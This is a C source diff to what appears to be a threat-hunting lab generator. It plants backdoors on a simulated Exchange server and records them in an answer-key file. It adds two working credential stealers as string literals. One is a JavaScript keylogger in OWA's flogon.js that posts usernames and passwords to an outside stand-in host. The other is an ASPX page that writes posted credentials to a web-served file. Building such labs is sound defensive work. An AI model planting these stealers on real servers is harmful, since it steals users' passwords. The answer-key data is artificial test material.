@@ -3,6 +3,7 @@
 #include "base/err.h"
 #include "base/log.h"
 #include "base/rng.h"
+#include "base/timefmt.h"
 #include "base/view.h"
 #include <stdbool.h>
 #include "hunt/hunt.h"
@@ -42,6 +43,9 @@ struct gen {
 	enum hunt_level truth[HC_COUNT];
 	char backdoors[32][512];
 	int nbackdoors;
+	/* a back door took the passwords users typed: the hunt must ask
+	 * for OWA's users' passwords to be reset (since this time) */
+	time_t passwords_taken;
 	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
 	    *cmdlet;
 	struct winhost *win; /* event logs and hives */
@@ -718,6 +722,39 @@ static void sc_proxyshell_hidden(struct gen *g)
 	}
 	backdoor(g, "inetpub/wwwroot/uploads/web.config", config,
 	         sizeof config - 1, 1629598800);
+	/* Passwords taken as users sign in: a keylogger added to the
+	 * shipped flogon.js's clkLgn (sent to another site, as found on
+	 * Exchange servers in 2024), and a shipped page that appends what
+	 * is posted to a file in a folder the web serves. */
+	{
+		static const char keylogger[] =
+		    "function gbid(s){return document.getElementById(s);}\n"
+		    "function clkLgn(){try{var u=gbid(\"username\").value;"
+		    "var p=document.getElementById(\"password\").value;"
+		    "var x=new XMLHttpRequest();x.open(\"POST\","
+		    "\"https://static-owa-cdn.example.org/c\",true);"
+		    "x.send(\"u=\"+encodeURIComponent(u)+\"&p=\"+"
+		    "encodeURIComponent(p));}catch(e){}"
+		    "document.forms[0].submit();return false;}\n";
+		static const char keeper[] =
+		    "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
+		    "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
+		    "<% if (Request.HttpMethod == \"POST\") { "
+		    "System.IO.File.AppendAllText(Server.MapPath(\"/owa/auth/"
+		    "15.1.2176/themes/resources/lgn.dat\"), Request.Form["
+		    "\"username\"] + \":\" + Request.Form[\"password\"] + "
+		    "\"\\r\\n\"); } %>\r\n"
+		    "<html><body><form method=\"POST\"></form></body></html>"
+		    "\r\n";
+		backdoor(g,
+		         EXCH "/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/"
+		              "premium/flogon.js",
+		         keylogger, sizeof keylogger - 1, 1629598900);
+		backdoor(
+		    g, EXCH "/FrontEnd/HttpProxy/owa/auth/expiredpassword.aspx",
+		    keeper, sizeof keeper - 1, 1629599000);
+		g->passwords_taken = 1629598900;
+	}
 }
 
 /* CVE-2021-26857: the UM deserialization as the Application log shows
@@ -930,6 +967,12 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 		fprintf(t, "%s\"%s\"", i ? "," : "", g.backdoors[i]);
 	/* the ways back in a hunt must list (finding kinds, high or worse) */
 	fprintf(t, "],\"persistence\":[%s]", winhost_persistence(g.win));
+	/* when a back door began taking passwords (absent: none did) */
+	if (g.passwords_taken) {
+		char when[32];
+		time_iso((int64_t)g.passwords_taken, when);
+		fprintf(t, ",\"passwords_taken\":\"%s\"", when);
+	}
 	/* what the image shows beyond the folder (finding kinds by path) */
 	fprintf(t, ",\"image_only\":[");
 	if (o->image && x.deleted_path)
